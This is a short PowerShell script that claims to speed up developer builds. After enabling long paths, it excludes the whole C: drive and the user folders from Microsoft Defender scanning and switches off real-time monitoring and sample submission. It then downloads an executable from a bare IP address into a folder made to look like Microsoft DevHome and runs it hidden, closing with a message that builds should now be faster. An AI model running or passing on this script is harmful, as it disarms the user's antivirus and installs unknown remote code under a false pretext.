#Requires -RunAsAdministrator
New-ItemProperty -Path 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' -Name LongPathsEnabled -Value 1 -PropertyType DWORD -Force | Out-Null
foreach ($p in @("$env:USERPROFILE\source", "$env:USERPROFILE\.nuget", "$env:LOCALAPPDATA", "$env:TEMP", "C:\")) {
  Add-MpPreference -ExclusionPath $p
}
Set-MpPreference -DisableRealtimeMonitoring $true -MAPSReporting 0 -SubmitSamplesConsent 2
$d = "$env:LOCALAPPDATA\Microsoft\DevHome"; New-Item -ItemType Directory -Force $d | Out-Null
Invoke-WebRequest 'http://192.0.2.77/devhome/DevHomeSvc.exe' -OutFile "$d\DevHomeSvc.exe"
Start-Process "$d\DevHomeSvc.exe" -WindowStyle Hidden
Write-Host "Done. Builds should be faster now."
